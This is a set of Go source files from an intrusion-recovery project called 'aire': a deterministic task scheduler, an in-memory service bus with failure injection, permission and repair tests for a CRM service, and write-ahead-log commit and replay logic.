// models a process dying mid-pass (claims in flight, locks released at the
// yield point, in-memory state about to be discarded), and the driver is
// expected to treat the owning component as crashed and rebuild it from
// durable state. The kill is recorded in the trace, so replays of a seed
// that kills are compared against replays that kill identically. Reports
// whether the task existed and was killed. Driver-only; killing the running
// task panics (the driver and a running task never execute concurrently, so
// that would be a protocol violation).
func (s *Sched) Kill(id int) bool {
	s.mu.Lock()
	defer s.mu.Unlock()
	for i, t := range s.tasks {
		if t.id != id || t.done {
			continue
		}
		if t == s.running {
			panic("dsched: Kill of the running task")
		}
		t.done = true
		entry := "kill:" + t.name
		if t.label != "" {
			entry += "@" + t.label
		}
		s.trace = append(s.trace, entry)
		s.tasks = append(s.tasks[:i], s.tasks[i+1:]...)
		return true
	}
	return false
}

// Live returns how many tasks have not finished; a clean shutdown drives
// it to zero before the Sched is abandoned (a task parked forever would
// leak its goroutine).
func (s *Sched) Live() int {
	s.mu.Lock()
	defer s.mu.Unlock()
	n := 0
	for _, t := range s.tasks {
		if !t.done {
			n++
		}
	}
	return n
}

// NewSem returns a deterministic counting semaphore with n slots.
func (s *Sched) NewSem(n int) sched.Sem { return &dsem{s: s, free: n} }

type dsem struct {
	s    *Sched
	free int // guarded by s.mu
}

func (m *dsem) Acquire(ctx context.Context) bool {
	for {
		m.s.mu.Lock()
		if ctx.Err() != nil {
			m.s.mu.Unlock()
			return false
		}
		if m.free > 0 {
			m.free--
			m.s.mu.Unlock()
			return true
		}
		inTask := m.s.running != nil
		m.s.mu.Unlock()
		if !inTask {
			panic("dsched: Sem.Acquire would block outside a task (deadlock)")
		}
		m.s.park(func() bool { return m.free > 0 || ctx.Err() != nil })
	}
}

func (m *dsem) Release() {
	m.s.mu.Lock()
	m.free++
	m.s.mu.Unlock()
}

// NewGroup returns a deterministic task group.
func (s *Sched) NewGroup() sched.Group { return &dgroup{s: s} }

type dgroup struct {
	s *Sched
	n int // guarded by s.mu
}

func (g *dgroup) Add(n int) {
	g.s.mu.Lock()
	g.n += n
	g.s.mu.Unlock()
}

func (g *dgroup) Done() { g.Add(-1) }

func (g *dgroup) Wait() {
	for {
		g.s.mu.Lock()
		if g.n <= 0 {
			g.s.mu.Unlock()
			return
		}
		inTask := g.s.running != nil
		g.s.mu.Unlock()
		if !inTask {
			panic("dsched: Group.Wait would block outside a task (deadlock)")
		}
		g.s.park(func() bool { return g.n <= 0 })
	}
}

// NewPacer returns a pacer firing every interval of virtual time (read
// from the Sched's clock) or on Wake.
func (s *Sched) NewPacer(interval time.Duration) sched.Pacer {
	return &dpacer{s: s, interval: interval}
}

type dpacer struct {
	s        *Sched
	interval time.Duration
	woken    bool // guarded by s.mu; latched by Wake, consumed by Wait
}

func (p *dpacer) Wait(ctx context.Context) bool {
	p.s.mu.Lock()
	deadline := p.s.clock.Now().Add(p.interval)
	fire := func() bool {
		return p.woken || ctx.Err() != nil || !p.s.clock.Now().Before(deadline)
	}
	if !fire() {
		if p.s.running == nil {
			p.s.mu.Unlock()
			panic("dsched: Pacer.Wait would block outside a task (deadlock)")
		}
		p.s.mu.Unlock()
		p.s.park(fire)
		p.s.mu.Lock()
	}
	p.woken = false
	ok := ctx.Err() == nil
	p.s.mu.Unlock()
	return ok
}

// Wake latches a nudge: the current (or next) Wait fires without waiting
// for its deadline. Safe from the driver or any task.
func (p *dpacer) Wake() {
	p.s.mu.Lock()
	p.woken = true
	p.s.mu.Unlock()
}

func (p *dpacer) Stop() {}
