// Package transport connects Aire services to one another.
//
// The primary transport is an in-memory Bus: deterministic, fast, and able
// to inject the failures the paper's partial-repair experiments need (§7.2)
// — offline services, delivery timeouts, and unreachable notifier URLs. The
// bus authenticates the *callee* by name (the moral equivalent of the
// server's X.509 certificate in §3.1) and reports the caller's registered
// name to the callee (services layer their own credential checks on top, as
// §4 requires).
//
// An adapter in httpadapter.go runs the same services over real net/http
// sockets for the runnable examples.
package transport

import (
	"errors"
	"fmt"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"aire/internal/wire"
)

// Handler processes one request addressed to a service. from is the
// transport-authenticated name of the calling service ("" for an external,
// unauthenticated client such as a browser).
type Handler interface {
	HandleWire(from string, req wire.Request) wire.Response
}

// HandlerFunc adapts a function to the Handler interface.
type HandlerFunc func(from string, req wire.Request) wire.Response

// HandleWire calls f.
func (f HandlerFunc) HandleWire(from string, req wire.Request) wire.Response {
	return f(from, req)
}

// ErrUnavailable is returned when the destination service is offline or the
// delivery timed out. Aire treats both identically: the repair message stays
// queued for a later attempt (§3).
var ErrUnavailable = errors.New("transport: service unavailable")

// ErrUnknownService is returned when no service with the given name exists.
var ErrUnknownService = errors.New("transport: unknown service")

// Bus is an in-memory service fabric. The zero value is not usable; create
// one with NewBus. Bus is safe for concurrent use.
type Bus struct {
	mu       sync.RWMutex
	handlers map[string]Handler
	offline  map[string]bool
	latency  map[string]time.Duration

	calls atomic.Int64
	drops atomic.Int64
}

// NewBus returns an empty bus.
func NewBus() *Bus {
	return &Bus{
		handlers: make(map[string]Handler),
		offline:  make(map[string]bool),
		latency:  make(map[string]time.Duration),
	}
}

// Register attaches a service to the bus under the given name.
func (b *Bus) Register(name string, h Handler) {
	b.mu.Lock()
	defer b.mu.Unlock()
	b.handlers[name] = h
}

// SetOffline marks a service offline (true) or online (false). Calls to an
// offline service fail with ErrUnavailable, exactly the condition Aire's
// outgoing queues are designed to ride out (§3.2).
func (b *Bus) SetOffline(name string, off bool) {
	b.mu.Lock()
	defer b.mu.Unlock()
	b.offline[name] = off
}

// SetLatency makes every call to the named service block for d before it is
// dispatched (or before it fails, if the service is also offline). Combined
// with SetOffline it models a *stalled* peer — one that hangs callers for a
// timeout rather than refusing connections instantly — the condition the
// background repair pump exists to ride out (§3). Zero removes the latency.
func (b *Bus) SetLatency(name string, d time.Duration) {
	b.mu.Lock()
	defer b.mu.Unlock()
	b.latency[name] = d
}

// Offline reports whether the named service is currently offline.
func (b *Bus) Offline(name string) bool {
	b.mu.RLock()
	defer b.mu.RUnlock()
	return b.offline[name]
}

// Call delivers req to service `to`, reporting `from` as the authenticated
// caller identity.
func (b *Bus) Call(from, to string, req wire.Request) (wire.Response, error) {
	b.mu.RLock()
	h, ok := b.handlers[to]
	off := b.offline[to]
	lat := b.latency[to]
	b.mu.RUnlock()
	if lat > 0 {
		time.Sleep(lat)
	}
	if !ok {
		b.drops.Add(1)
		return wire.Response{}, fmt.Errorf("%w: %s", ErrUnknownService, to)
	}
	if off {
		b.drops.Add(1)
		return wire.Response{}, fmt.Errorf("%w: %s is offline", ErrUnavailable, to)
	}
	b.calls.Add(1)
	return h.HandleWire(from, req), nil
}

// Stats returns the number of delivered and dropped calls.
func (b *Bus) Stats() (delivered, dropped int64) {
	return b.calls.Load(), b.drops.Load()
}

// Services returns the names of all registered services.
func (b *Bus) Services() []string {
	b.mu.RLock()
	defer b.mu.RUnlock()
	names := make([]string, 0, len(b.handlers))
	for n := range b.handlers {
		names = append(names, n)
	}
	return names
}

// NotifierURL builds the notifier URL for a service (§3.1): the address a
// server contacts to deliver a response-repair token.
func NotifierURL(service string) string {
	return "aire://" + service + "/aire/notify"
}

// PollNotifierURL builds a polling notifier URL for a client that cannot
// accept inbound connections (a browser-style client): instead of pushing
// the token, the server parks it in a mailbox the client polls.
func PollNotifierURL(clientID string) string {
	return "poll://" + clientID
}

// ParseNotifierURL extracts the service name and path from a notifier URL.
func ParseNotifierURL(u string) (service, path string, err error) {
	const scheme = "aire://"
	if !strings.HasPrefix(u, scheme) {
		return "", "", fmt.Errorf("transport: bad notifier URL %q", u)
	}
	rest := u[len(scheme):]
	i := strings.IndexByte(rest, '/')
	if i < 0 {
		return rest, "/", nil
	}
	return rest[:i], rest[i:], nil
}

// ParsePollNotifierURL extracts the client ID from a poll:// notifier URL;
// ok is false if u uses another scheme.
func ParsePollNotifierURL(u string) (clientID string, ok bool) {
	const scheme = "poll://"
	if !strings.HasPrefix(u, scheme) {
		return "", false
	}
	return u[len(scheme):], true
}
