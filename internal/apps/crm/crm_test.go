package crm

import (
	"strings"
	"testing"

	"aire/internal/apps/permsvc"
	"aire/internal/core"
	"aire/internal/transport"
	"aire/internal/wire"
)

const admin = "perm-admin"

func newWorld(t *testing.T) (*transport.Bus, *core.Controller, *core.Controller) {
	t.Helper()
	bus := transport.NewBus()
	perms := core.NewController(permsvc.New(admin), bus, core.DefaultConfig())
	app := New("perms")
	crmCtrl := core.NewController(app, bus, core.DefaultConfig())
	bus.Register("perms", perms)
	bus.Register("crm", crmCtrl)
	return bus, perms, crmCtrl
}

func call(t *testing.T, bus *transport.Bus, svc string, req wire.Request) wire.Response {
	t.Helper()
	resp, err := bus.Call("", svc, req)
	if err != nil {
		t.Fatal(err)
	}
	return resp
}

func grant(t *testing.T, bus *transport.Bus, user, level string) wire.Response {
	t.Helper()
	return call(t, bus, "perms", wire.NewRequest("POST", "/grant").
		WithForm("svc", "crm", "user", user, "level", level).
		WithHeader("X-Admin-Token", admin))
}

func TestWriteRequiresCentralPermission(t *testing.T) {
	bus, _, _ := newWorld(t)
	// No grant: refused.
	if resp := call(t, bus, "crm", wire.NewRequest("POST", "/customer").
		WithForm("user", "alice", "name", "ACME")); resp.Status != 403 {
		t.Fatalf("ungranted write accepted: %d", resp.Status)
	}
	grant(t, bus, "alice", "rw")
	resp := call(t, bus, "crm", wire.NewRequest("POST", "/customer").
		WithForm("user", "alice", "name", "ACME"))
	if !resp.OK() {
		t.Fatalf("granted write refused: %s", resp.Body)
	}
	// Read-only users can read but not write.
	grant(t, bus, "bob", "r")
	if r := call(t, bus, "crm", wire.NewRequest("GET", "/customer").
		WithForm("user", "bob", "id", string(resp.Body))); !r.OK() {
		t.Fatalf("read refused: %s", r.Body)
	}
	if r := call(t, bus, "crm", wire.NewRequest("POST", "/customer").
		WithForm("user", "bob", "name", "X")); r.Status != 403 {
		t.Fatalf("read-only write accepted: %d", r.Status)
	}
}

func TestRevokeStopsFutureWrites(t *testing.T) {
	bus, _, _ := newWorld(t)
	grant(t, bus, "alice", "rw")
	if resp := call(t, bus, "crm", wire.NewRequest("POST", "/customer").
		WithForm("user", "alice", "name", "A")); !resp.OK() {
		t.Fatal("write should succeed")
	}
	grant(t, bus, "alice", "") // revoke
	if resp := call(t, bus, "crm", wire.NewRequest("POST", "/customer").
		WithForm("user", "alice", "name", "B")); resp.Status != 403 {
		t.Fatalf("post-revoke write accepted: %d", resp.Status)
	}
}

func TestGrantRepairPropagatesViaResponses(t *testing.T) {
	bus, perms, crmCtrl := newWorld(t)
	grant(t, bus, "alice", "rw")
	bad := grant(t, bus, "mallory", "rw")
	cust := call(t, bus, "crm", wire.NewRequest("POST", "/customer").
		WithForm("user", "mallory", "name", "Shell Co"))
	if !cust.OK() {
		t.Fatal("attack write should succeed pre-repair")
	}

	del := wire.NewRequest("POST", "/aire/repair").WithHeader(
		wire.HdrRepair, "delete",
		wire.HdrRequestID, bad.Header[wire.HdrRequestID],
		"X-Admin-Token", admin)
	if resp := call(t, bus, "perms", del); !resp.OK() {
		t.Fatalf("repair: %d %s", resp.Status, resp.Body)
	}
	for i := 0; i < 5; i++ {
		perms.Flush()
		crmCtrl.Flush()
	}
	if resp := call(t, bus, "crm", wire.NewRequest("GET", "/customer").
		WithForm("user", "alice", "id", string(cust.Body))); resp.Status != 404 {
		t.Fatalf("attack record survived: %d %q", resp.Status, resp.Body)
	}
	// The propagation was response-driven: crm received no /aire/repair
	// calls, only notify/fetch.
	if strings.Contains(strings.Join(notificationKinds(crmCtrl), ","), "unauthorized") {
		t.Fatal("unexpected authorization failures")
	}
}

func notificationKinds(c *core.Controller) []string {
	var out []string
	for _, n := range c.Notifications() {
		out = append(out, n.Kind)
	}
	return out
}

func TestAuthorizePolicies(t *testing.T) {
	bus, _, _ := newWorld(t)
	grant(t, bus, "alice", "rw")
	cust := call(t, bus, "crm", wire.NewRequest("POST", "/customer").
		WithForm("user", "alice", "name", "ACME"))

	del := wire.NewRequest("POST", "/aire/repair").WithHeader(
		wire.HdrRepair, "delete", wire.HdrRequestID, cust.Header[wire.HdrRequestID])
	if resp := call(t, bus, "crm", del); resp.Status != 403 {
		t.Fatalf("credential-less repair accepted: %d", resp.Status)
	}
	if resp := call(t, bus, "crm", del.WithHeader("X-Repair-User", "mallory")); resp.Status != 403 {
		t.Fatalf("wrong-user repair accepted: %d", resp.Status)
	}
	if resp := call(t, bus, "crm", del.WithHeader("X-Repair-User", "alice")); !resp.OK() {
		t.Fatalf("same-user repair refused: %d %s", resp.Status, resp.Body)
	}

	// Grant repair on the perm service needs the admin token.
	g := grant(t, bus, "carol", "r")
	gdel := wire.NewRequest("POST", "/aire/repair").WithHeader(
		wire.HdrRepair, "delete", wire.HdrRequestID, g.Header[wire.HdrRequestID])
	if resp := call(t, bus, "perms", gdel); resp.Status != 403 {
		t.Fatalf("grant repair without admin accepted: %d", resp.Status)
	}
	if resp := call(t, bus, "perms", gdel.WithHeader("X-Admin-Token", admin)); !resp.OK() {
		t.Fatalf("grant repair with admin refused: %d %s", resp.Status, resp.Body)
	}
}

func TestGrantsListing(t *testing.T) {
	bus, _, _ := newWorld(t)
	grant(t, bus, "alice", "rw")
	grant(t, bus, "bob", "r")
	out := string(call(t, bus, "perms", wire.NewRequest("GET", "/grants")).Body)
	if !strings.Contains(out, "crm|alice=rw") || !strings.Contains(out, "crm|bob=r") {
		t.Fatalf("grants = %q", out)
	}
}

func TestCustomersListing(t *testing.T) {
	bus, _, _ := newWorld(t)
	grant(t, bus, "alice", "rw")
	call(t, bus, "crm", wire.NewRequest("POST", "/customer").WithForm("user", "alice", "name", "One"))
	call(t, bus, "crm", wire.NewRequest("POST", "/customer").WithForm("user", "alice", "name", "Two"))
	out := string(call(t, bus, "crm", wire.NewRequest("GET", "/customers").WithForm("user", "alice")).Body)
	if !strings.Contains(out, "One") || !strings.Contains(out, "Two") {
		t.Fatalf("customers = %q", out)
	}
	// No read access: refused.
	if resp := call(t, bus, "crm", wire.NewRequest("GET", "/customers").WithForm("user", "nobody")); resp.Status != 403 {
		t.Fatalf("ungranted list accepted: %d", resp.Status)
	}
	// Reading a missing customer with access: 404.
	if resp := call(t, bus, "crm", wire.NewRequest("GET", "/customer").WithForm("user", "alice", "id", "ghost")); resp.Status != 404 {
		t.Fatalf("missing customer: %d", resp.Status)
	}
}
