package core

import (
	"encoding/json"
	"fmt"
	"sync"

	"aire/internal/deliver"
	"aire/internal/repairlog"
	"aire/internal/vdb"
	"aire/internal/wal"
	"aire/internal/warp"
)

// This file wires the controller to the write-ahead log (internal/wal).
//
// Commit batching: mutations made while the service lock (Svc.Mu) is held —
// request execution, local repair, batched incoming repair, GC — are
// buffered between walBegin and walCommit and land as ONE framed WAL entry,
// so replay applies the whole commit or none of it (this is what makes a
// half-applied warp batch impossible after recovery). Mutations outside the
// service lock — outgoing-queue transitions under qmu, dedup-inbox
// transitions under the inbox's own lock — are appended as standalone
// single-op entries at the moment they happen, inside the same critical
// section that performs them, so WAL order matches mutation order per
// domain.

// walState is the controller's WAL attachment. mu guards every field; it is
// a leaf lock (nothing is acquired while holding it).
type walState struct {
	mu  sync.Mutex
	w   *wal.Writer
	err error // first append failure, sticky

	batchOpen bool
	batchKind string
	batch     []wal.Op

	// pendingSync is the highest batch-commit seq still owing an fsync
	// (high-water mark; never reset — wal.SyncTo is a no-op once the seq is
	// durable). walCommit raises it under Svc.Mu; walSettle flushes it
	// after the lock is released.
	pendingSync uint64
}

// AttachWAL starts mirroring every committed mutation into w. Attach after
// recovery and before serving traffic.
func (c *Controller) AttachWAL(w *wal.Writer) {
	c.walst.mu.Lock()
	c.walst.w = w
	c.walst.pendingSync = 0 // seqs are writer-relative; drop any stale mark
	c.walst.mu.Unlock()
	c.Svc.Store.SetChangeSink(c.walVDBSink)
	c.Svc.Log.SetChangeSink(c.walLogSink)
}

// DetachWAL stops mirroring and returns the writer (nil if none attached).
func (c *Controller) DetachWAL() *wal.Writer {
	c.Svc.Store.SetChangeSink(nil)
	c.Svc.Log.SetChangeSink(nil)
	c.walst.mu.Lock()
	w := c.walst.w
	c.walst.w = nil
	c.walst.mu.Unlock()
	return w
}

// WALError returns the first WAL append error, if any (sticky).
func (c *Controller) WALError() error {
	c.walst.mu.Lock()
	defer c.walst.mu.Unlock()
	return c.walst.err
}

// walAttached reports whether a writer is attached (cheap pre-check so
// detached controllers skip op marshaling entirely).
func (c *Controller) walAttached() bool {
	c.walst.mu.Lock()
	defer c.walst.mu.Unlock()
	return c.walst.w != nil
}

// walBegin opens a commit batch. Caller holds Svc.Mu; batches never nest.
func (c *Controller) walBegin(kind string) {
	c.walst.mu.Lock()
	defer c.walst.mu.Unlock()
	if c.walst.w == nil {
		return
	}
	c.walst.batchOpen = true
	c.walst.batchKind = kind
	c.walst.batch = c.walst.batch[:0]
}

// walCommit closes the batch and appends it as one entry. Caller still
// holds Svc.Mu. Empty batches append nothing. The entry is written but NOT
// flushed here: the fsync the policy may owe is deferred to walSettle, which
// the commit path runs after releasing Svc.Mu — so a disk flush never
// serializes request execution, and concurrent commits share one group
// fsync instead of queueing a flush each behind the service lock.
func (c *Controller) walCommit() {
	c.walst.mu.Lock()
	if !c.walst.batchOpen {
		c.walst.mu.Unlock()
		return
	}
	c.walst.batchOpen = false
	kind := c.walst.batchKind
	ops := append([]wal.Op(nil), c.walst.batch...)
	c.walst.batch = c.walst.batch[:0]
	w := c.walst.w
	c.walst.mu.Unlock()
	if w == nil || len(ops) == 0 {
		return
	}
	seq, syncNeeded, err := w.AppendDeferred(kind, c.Svc.Clock.Now(), c.Svc.IDs.Counter(), ops)
	c.walst.mu.Lock()
	if err != nil {
		if c.walst.err == nil {
			c.walst.err = err
		}
	} else if syncNeeded && seq > c.walst.pendingSync {
		c.walst.pendingSync = seq
	}
	c.walst.mu.Unlock()
}

// walSettle makes the caller's last walCommit durable; run it after
// releasing Svc.Mu and before replying to the client. pendingSync is a
// high-water mark, so a settle whose commit another settle's fsync already
// covered returns without touching the disk (wal.Writer.SyncTo blocks until
// the covering flush has actually completed — a commit is never
// acknowledged on the strength of an fsync still in flight).
func (c *Controller) walSettle() {
	c.walst.mu.Lock()
	w := c.walst.w
	seq := c.walst.pendingSync
	c.walst.mu.Unlock()
	if w == nil || seq == 0 {
		return
	}
	if err := w.SyncTo(seq); err != nil {
		c.walst.mu.Lock()
		if c.walst.err == nil {
			c.walst.err = err
		}
		c.walst.mu.Unlock()
	}
}

// walEmit routes one op: into the open commit batch when join is set (the
// caller is a Svc.Mu-held mutation path), else as a standalone entry under
// the given kind.
func (c *Controller) walEmit(kind string, op wal.Op, join bool) {
	if join {
		c.walst.mu.Lock()
		if c.walst.batchOpen {
			c.walst.batch = append(c.walst.batch, op)
			c.walst.mu.Unlock()
			return
		}
		c.walst.mu.Unlock()
	}
	c.walAppend(kind, []wal.Op{op})
}

// walAppend writes one entry, stamping the logical clock and ID counter so
// recovery can restore both even when the snapshot predates them.
func (c *Controller) walAppend(kind string, ops []wal.Op) {
	c.walst.mu.Lock()
	w := c.walst.w
	c.walst.mu.Unlock()
	if w == nil || len(ops) == 0 {
		return
	}
	if _, err := w.Append(kind, c.Svc.Clock.Now(), c.Svc.IDs.Counter(), ops); err != nil {
		c.walst.mu.Lock()
		if c.walst.err == nil {
			c.walst.err = err
		}
		c.walst.mu.Unlock()
	}
}

func mustOp(kind string, v any) wal.Op {
	data, err := json.Marshal(v)
	if err != nil {
		// The op payload types below are all plain data; a marshal failure
		// is a programming error.
		panic(fmt.Sprintf("core: wal op %s marshal: %v", kind, err))
	}
	return wal.Op{Kind: kind, Data: data}
}

// walVDBSink observes store mutations. It fires under the store lock, on
// paths that hold Svc.Mu, so joining the open batch is race-free.
func (c *Controller) walVDBSink(ch vdb.Change) {
	c.walEmit("vdb", mustOp("vdb", ch), true)
}

// walLogSink observes repair-log mutations; same locking shape as the
// store sink.
func (c *Controller) walLogSink(ch repairlog.Change) {
	c.walEmit("log", mustOp("log", ch), true)
}

// ---- op payloads ----------------------------------------------------------

type qSetOp struct {
	Msg    PendingMsg `json:"msg"`
	NextID int        `json:"next_id"`
}

type qDelOp struct {
	MsgID string `json:"msg_id"`
}

type qClaimOp struct {
	Peer   string   `json:"peer"`
	MsgIDs []string `json:"msg_ids"`
}

type inboxOp struct {
	Origin  string `json:"origin"`
	ID      string `json:"id"`
	Gen     uint64 `json:"gen,omitempty"`
	Once    bool   `json:"once,omitempty"`
	Outcome string `json:"outcome,omitempty"`
	TS      int64  `json:"ts,omitempty"`
}

type inGCOp struct {
	BeforeTS int64 `json:"before_ts"`
}

// inVVOp records a receive-side version-vector advance (vectors.go): the
// announced acked prefix drives dedup-inbox compaction, so the advance and
// the compaction must be replayed together — one idempotent op does both
// (ObserveVector is a monotonic max), keeping recovery consistent with
// whatever the checkpoint snapshot already contains. Sender-side vectors
// need no op: they are derived from the replayed queue (see vectors.go).
type inVVOp struct {
	Origin   string `json:"origin"`
	Acked    uint64 `json:"acked"`
	Frontier uint64 `json:"frontier,omitempty"`
}

type batchAcceptOp struct {
	// Seq is the action's accept sequence (Controller.inseq): a monotone
	// per-controller counter that names inbox entries exactly, including
	// gate-less ones, so a replayed drain can match what it drained.
	Seq    uint64      `json:"seq"`
	Action warp.Action `json:"action"`
	Origin string      `json:"origin,omitempty"`
	ID     string      `json:"id,omitempty"`
	Gen    uint64      `json:"gen,omitempty"`
	Once   bool        `json:"once,omitempty"`
	// Wave / Hop persist the accepted carrier's trace context so a
	// recovered batch keeps its wave identity (observability-only).
	Wave string `json:"wave,omitempty"`
	Hop  int    `json:"hop,omitempty"`
}

type batchDrainOp struct {
	// UpToSeq is the drain watermark: every inbox entry with accept seq at
	// or below it was applied by this commit. Replay removes exactly those
	// entries — never later accepts that a racing checkpoint snapshot may
	// already contain. N and IDs are forensic.
	UpToSeq uint64   `json:"up_to_seq"`
	N       int      `json:"n"`
	IDs     []string `json:"ids,omitempty"`
}

// walEmitQSetLocked logs a queue entry's current state. Caller holds qmu.
func (c *Controller) walEmitQSetLocked(p *PendingMsg) {
	c.walEmitQSetJoinLocked(p, false)
}

// walEmitQSetJoinLocked is walEmitQSetLocked with control over batching:
// join=true folds the op into the caller's open WAL batch (the caller must
// hold Svc.Mu with a batch open — see enqueueJoin). Caller holds qmu.
func (c *Controller) walEmitQSetJoinLocked(p *PendingMsg, join bool) {
	if !c.walAttached() {
		return
	}
	c.walEmit("queue", mustOp("q-set", qSetOp{Msg: *p, NextID: c.nextID}), join)
}

// walEmitQDelLocked logs a queue entry's removal. Caller holds qmu.
func (c *Controller) walEmitQDelLocked(msgID string) {
	if !c.walAttached() {
		return
	}
	c.walEmit("queue", mustOp("q-del", qDelOp{MsgID: msgID}), false)
}

// walEmitClaimLocked logs a delivery claim (informational: claims are
// in-memory leases and replay ignores them, but the acks that follow are
// only meaningful against the claim record). Caller holds qmu.
func (c *Controller) walEmitClaimLocked(peer string, ids []string) {
	if !c.walAttached() || len(ids) == 0 {
		return
	}
	c.walEmit("queue", mustOp("q-claim", qClaimOp{Peer: peer, MsgIDs: ids}), false)
}

// ---- recovery -------------------------------------------------------------

// ApplyWALEntry replays one recovered WAL entry onto the controller. Ops
// are idempotent: recovery may replay entries whose effects the checkpoint
// snapshot already contains.
func (c *Controller) ApplyWALEntry(e wal.Entry) error {
	for i, op := range e.Ops {
		if err := c.applyWALOp(op); err != nil {
			return fmt.Errorf("core: wal entry %d (%s) op %d (%s): %w", e.Seq, e.Kind, i, op.Kind, err)
		}
	}
	c.Svc.Clock.Observe(e.Clock)
	if e.IDs > c.Svc.IDs.Counter() {
		c.Svc.IDs.SetCounter(e.IDs)
	}
	return nil
}

func (c *Controller) applyWALOp(op wal.Op) error {
	switch op.Kind {
	case "vdb":
		var ch vdb.Change
		if err := json.Unmarshal(op.Data, &ch); err != nil {
			return err
		}
		return c.Svc.Store.ApplyChange(ch)
	case "log":
		var ch repairlog.Change
		if err := json.Unmarshal(op.Data, &ch); err != nil {
			return err
		}
		switch ch.Kind {
		case "append", "update":
			return c.Svc.Log.ApplyWAL(ch.Record)
		case "gc":
			c.Svc.Log.ApplyWALGC(ch.BeforeTS)
			return nil
		}
		return fmt.Errorf("unknown log change kind %q", ch.Kind)
	case "q-set":
		var o qSetOp
		if err := json.Unmarshal(op.Data, &o); err != nil {
			return err
		}
		c.walQueueSet(o)
		return nil
	case "q-del":
		var o qDelOp
		if err := json.Unmarshal(op.Data, &o); err != nil {
			return err
		}
		c.walQueueRemove(o.MsgID)
		return nil
	case "q-claim":
		return nil // in-memory lease; nothing to restore
	case "in-commit":
		var o inboxOp
		if err := json.Unmarshal(op.Data, &o); err != nil {
			return err
		}
		switch d, _ := c.dedup.Begin(o.Origin, o.ID, o.Gen, o.Once); d {
		case deliver.Apply, deliver.InFlight:
			// InFlight means the checkpoint snapshot (or an earlier replayed
			// op) already holds the reservation; Commit only needs the entry
			// and a matching generation.
			c.dedup.Commit(o.Origin, o.ID, o.Gen, o.Outcome, o.TS)
		}
		return nil
	case "in-rollback":
		var o inboxOp
		if err := json.Unmarshal(op.Data, &o); err != nil {
			return err
		}
		switch d, _ := c.dedup.Begin(o.Origin, o.ID, o.Gen, o.Once); d {
		case deliver.Apply, deliver.InFlight:
			c.dedup.Rollback(o.Origin, o.ID, o.Gen)
		}
		return nil
	case "in-gc":
		var o inGCOp
		if err := json.Unmarshal(op.Data, &o); err != nil {
			return err
		}
		c.dedup.GC(o.BeforeTS)
		return nil
	case "in-vv":
		var o inVVOp
		if err := json.Unmarshal(op.Data, &o); err != nil {
			return err
		}
		c.dedup.ObserveVector(o.Origin, o.Acked, o.Frontier, 0)
		return nil
	case "batch-accept":
		var o batchAcceptOp
		if err := json.Unmarshal(op.Data, &o); err != nil {
			return err
		}
		c.walBatchAccept(BatchedAction{Seq: o.Seq, Action: o.Action, Origin: o.Origin, ID: o.ID, Gen: o.Gen, Once: o.Once, Wave: o.Wave, Hop: o.Hop})
		return nil
	case "batch-drain":
		var o batchDrainOp
		if err := json.Unmarshal(op.Data, &o); err != nil {
			return err
		}
		// Drain by watermark, not by count: in the checkpoint-overlap
		// window the restored inbox may hold only entries accepted AFTER
		// this drain (the drained ones never made it into the snapshot),
		// and dropping a prefix by count would discard those survivors
		// while their dedup reservations stay stuck in-flight.
		c.inmu.Lock()
		kept := c.inbox[:0]
		for _, q := range c.inbox {
			if q.seq > o.UpToSeq {
				kept = append(kept, q)
			}
		}
		c.inbox = kept
		c.inmu.Unlock()
		return nil
	}
	return fmt.Errorf("unknown wal op kind %q", op.Kind)
}

// walQueueSet upserts a replayed queue entry by message ID.
func (c *Controller) walQueueSet(o qSetOp) {
	c.qmu.Lock()
	defer c.qmu.Unlock()
	if o.NextID > c.nextID {
		c.nextID = o.NextID
	}
	for _, p := range c.queue {
		if p.queued && p.MsgID == o.Msg.MsgID {
			m := o.Msg
			p.Msg = m.Msg
			p.DeliveryID = m.DeliveryID
			p.Attempts = m.Attempts
			p.Held = m.Held
			p.LastErr = m.LastErr
			p.Gen = m.Gen
			p.TraceID = m.TraceID
			p.TraceHop = m.TraceHop
			return
		}
	}
	p := o.Msg
	p.inflight = false
	p.queued = true
	c.queue = append(c.queue, &p)
	c.qlive++
	// Sender vectors mirror the queue; replaying the queue replays them
	// (vvIssueLocked is idempotent against checkpoint-overlap re-inserts).
	c.vvIssueLocked(c.peerDest(p.Msg), p.DeliveryID)
}

// walQueueRemove deletes a replayed queue entry by message ID.
func (c *Controller) walQueueRemove(msgID string) {
	c.qmu.Lock()
	defer c.qmu.Unlock()
	for i, p := range c.queue {
		if p.queued && p.MsgID == msgID {
			c.queue = append(c.queue[:i], c.queue[i+1:]...)
			p.queued = false
			c.queueShrunkLocked()
			c.vvResolveLocked(c.peerDest(p.Msg), p.DeliveryID)
			return
		}
	}
}

// walBatchAccept re-queues a replayed accepted-but-undrained incoming
// action, re-reserving its delivery in the dedup inbox. Deliveries the
// inbox already remembers as applied (the batch was drained and committed
// later in the log, or before the checkpoint) are dropped, preserving
// exactly-once.
func (c *Controller) walBatchAccept(b BatchedAction) {
	g := deliveryGate{}
	if b.Origin != "" && b.ID != "" && !c.Cfg.DisableDedupInbox {
		switch d, _ := c.dedup.Begin(b.Origin, b.ID, b.Gen, b.Once); d {
		case deliver.Apply:
			g = deliveryGate{c: c, active: true, origin: b.Origin, id: b.ID, gen: b.Gen, once: b.Once}
		case deliver.InFlight:
			// The reservation (and the queued action) came in with the
			// checkpoint snapshot; this is overlap replay.
			return
		default:
			// Duplicate/Stale/Forgotten: the action already ran to a
			// conclusion; re-queuing would double-apply it.
			return
		}
	}
	c.inmu.Lock()
	seq := b.Seq
	if seq == 0 {
		// Snapshot written before accept seqs existed: assign a fresh one.
		c.inseq++
		seq = c.inseq
	} else if seq > c.inseq {
		c.inseq = seq
	}
	c.inbox = append(c.inbox, queuedAction{seq: seq, action: b.Action, gate: g, wave: b.Wave, hop: b.Hop})
	c.inmu.Unlock()
}

// ---- atomic export (persist.Capture's backing store) ----------------------

// BatchedAction is a persisted accepted-but-unapplied incoming repair
// action (batch-incoming mode) plus its delivery identity, so restore can
// re-reserve the delivery and ProcessIncoming can commit it exactly once.
type BatchedAction struct {
	// Seq is the accept sequence assigned when the action entered the
	// inbox; replayed batch-drain entries use it as their watermark.
	Seq    uint64      `json:"seq,omitempty"`
	Action warp.Action `json:"action"`
	Origin string      `json:"origin,omitempty"`
	ID     string      `json:"id,omitempty"`
	Gen    uint64      `json:"gen,omitempty"`
	Once   bool        `json:"once,omitempty"`
	// Wave / Hop carry the accepted carrier's trace context
	// (observability-only; see PendingMsg.TraceID).
	Wave string `json:"wave,omitempty"`
	Hop  int    `json:"hop,omitempty"`
}

